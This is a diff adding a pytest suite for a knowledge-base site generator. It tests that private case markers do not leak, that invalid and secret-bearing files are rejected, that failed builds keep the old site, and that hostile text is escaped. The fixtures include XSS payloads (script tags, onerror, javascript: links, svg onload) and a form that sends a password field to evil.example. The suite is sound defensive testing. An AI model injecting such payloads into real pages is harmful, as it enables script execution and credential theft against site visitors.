@@ -1,0 +1,117 @@
+"""Nothing private leaks, hostile text never runs, nothing is lost, a failed build keeps the last good site."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import kbgen, search
+from tests.kb import case_text, write_kb
+
+MARKERS = ("MARKERINTERNALCASE", "MARKERINTERNALNOTES", "MARKERCOMMENT", "MARKERCUSTOMER", "MARKERSECRETCASE", "CASE-HIDDEN-77")
+HOSTILE_TITLE = "Login fails <script>window.__pwned='title'</script> with `ERR_HOSTILE_4711`"
+HOSTILE_BODY = """\
+The app shows `ERR_HOSTILE_4711` <img src=x onerror="window.__pwned='img'"> and
+<script>window.__pwned='script'</script> then <a href="javascript:window.__pwned='link'" onclick="window.__pwned='click'">this</a>.
+[click me](javascript:window.__pwned='md') <iframe src="javascript:window.__pwned='frame'"></iframe>
+<form action="https://evil.example/"><input name="password"></form>
+<svg onload="window.__pwned='svg'"></svg>
+{: onclick="window.__pwned='attr'" }
+"""
+
+
+def private_kb(root: Path) -> Path:
+    cases = {
+        "public.md": case_text(
+            "CASE-PUB-1",
+            problem="Sync stops. <!-- MARKERCOMMENT ticket 1234 -->\nStill stops.",
+            extra_meta="customer: Zorblax MARKERCUSTOMER Ltd\n",
+            extra_body="\n## Internal notes\nMARKERINTERNALNOTES call jane@globex.example\n",
+        ),
+        "internal.md": case_text("CASE-HIDDEN-77", title="MARKERINTERNALCASE outage", extra_meta="visibility: internal\n"),
+        "secret.md": case_text("CASE-SEC-1", title="MARKERSECRETCASE token", solution="1. Use AKIAABCDEFGHIJKLMNOP as the key."),
+        "hostile.md": case_text("CASE-HOSTILE-1", title=HOSTILE_TITLE, problem=HOSTILE_BODY, solution="1. Update the app.", product="Acme Hostile"),
+        "broken.md": "---\nid: CASE-BROKEN\ntitle: [oops\n---\n",
+    }
+    return write_kb(root, cases)
+
+
+def test_no_private_marker_in_any_site_file(tmp_path: Path):
+    config = private_kb(tmp_path)
+    result = kbgen("build", "-f", str(config))
+    assert result.exit_code == 1, result.output  # two files were rejected: invalid content
+    site = tmp_path / "site"
+    assert (site / "kb" / "case-pub-1" / "index.html").exists()
+    scanned = 0
+    for path in site.rglob("*"):
+        if path.is_file():
+            data = path.read_bytes()
+            scanned += 1
+            for marker in MARKERS:
+                for form in (marker, marker.lower()):
+                    assert form.encode() not in data, f"{form} leaked into {path.relative_to(site)}"
+    assert scanned > 20
+    assert not (site / "kb" / "case-hidden-77").exists()
+
+
+def test_summary_accounts_for_every_file(tmp_path: Path):
+    config = private_kb(tmp_path)
+    result = kbgen("build", "-f", str(config), "--report", str(tmp_path / "report.tsv"))
+    files = sorted(p.relative_to(tmp_path).as_posix() for p in (tmp_path / "content" / "cases").rglob("*.md"))
+    rows = [line.split("\t") for line in (tmp_path / "report.tsv").read_text().splitlines()[1:]]
+    assert sorted(r[0] for r in rows) == files
+    status = {r[0]: r[1] for r in rows}
+    assert status["content/cases/internal.md"] == "internal"
+    assert status["content/cases/secret.md"] == "rejected"
+    assert status["content/cases/broken.md"] == "rejected"
+    assert status["content/cases/public.md"] == "published"
+    assert any(line.startswith("5 case files: 2 published as articles, 0 merged into an article, 1 internal, 2 rejected")
+               for line in result.output.splitlines()), result.output
+    assert "rejected  content/cases/broken.md: invalid YAML" in result.output
+    assert "rejected  content/cases/secret.md: public text holds what looks like an AWS access key" in result.output
+
+
+def test_check_lists_every_problem_and_exits_1(tmp_path: Path):
+    config = private_kb(tmp_path)
+    result = kbgen("check", "-f", str(config))
+    assert result.exit_code == 1
+    assert "content/cases/broken.md:3: error: invalid YAML" in result.output
+    assert "content/cases/secret.md:12: error: public text holds what looks like an AWS access key" in result.output
+    gh = kbgen("check", "-f", str(config), "--format", "github")
+    assert "::error file=content/cases/broken.md,line=3::invalid YAML" in gh.output
+
+
+def test_failed_strict_build_keeps_the_last_good_site(tmp_path: Path):
+    config = write_kb(tmp_path, {"a.md": case_text("CASE-A")})
+    assert kbgen("build", "--strict", "-f", str(config)).exit_code == 0
+    before = (tmp_path / "site" / "kb" / "case-a" / "index.html").read_bytes()
+    (tmp_path / "content" / "cases" / "b.md").write_text(case_text("CASE-B", extra_meta="root_casue: RC-1\n"))
+    result = kbgen("build", "--strict", "-f", str(config))
+    assert result.exit_code == 1
+    assert "left as it was" in result.output
+    assert (tmp_path / "site" / "kb" / "case-a" / "index.html").read_bytes() == before
+    assert not (tmp_path / "site" / "kb" / "case-b").exists()
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site")] == []
+
+
+@pytest.mark.browser
+def test_hostile_text_never_runs(tmp_path: Path, serve, page):
+    config = private_kb(tmp_path)
+    kbgen("build", "-f", str(config))
+    base = serve(tmp_path / "site")
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.goto(base + "kb/case-hostile-1/")
+    assert "ERR_HOSTILE_4711" in page.inner_text("article")
+    assert "<script>" in page.inner_text("h1")  # shown as text, not run
+    assert page.evaluate("window.__pwned") is None
+    for link in page.query_selector_all("article a"):
+        assert not (link.get_attribute("href") or "").lower().startswith("javascript:")
+    assert page.query_selector("article iframe, article form, article input, article svg[onload]") is None
+    search(page, "ERR_HOSTILE_4711")
+    assert page.evaluate("window.__pwned") is None
+    page.click(".md-search-result__item a")
+    page.wait_for_url("**/kb/case-hostile-1/**")
+    assert page.evaluate("window.__pwned") is None
+    assert dialogs == []
